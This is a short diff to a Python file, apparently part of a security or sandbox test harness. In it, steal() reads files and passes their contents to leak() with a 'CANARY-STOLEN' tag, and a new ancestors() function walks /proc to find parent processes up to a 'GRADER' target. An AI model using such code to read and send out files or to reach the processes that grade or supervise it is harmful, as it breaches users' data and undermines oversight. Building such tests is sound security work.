@@ -33,7 +33,20 @@ def leak(*loot):
 def steal(path):
     """Read a file and leak it."""
     with open(path, "rb") as f:
-        leak(f.read(100_000))
+        leak("CANARY-STOLEN", f.read(100_000))
+
+
+def ancestors():
+    """This process's parent, and all above it."""
+    pid = os.getppid()
+    while pid > 1:
+        yield pid
+        try:
+            with open(f"/proc/{pid}/stat") as f:
+                pid = int(f.read().rpartition(")")[2].split()[1])
+        except OSError:
+            return
+    yield GRADER
 
 
 def each(*attempts):
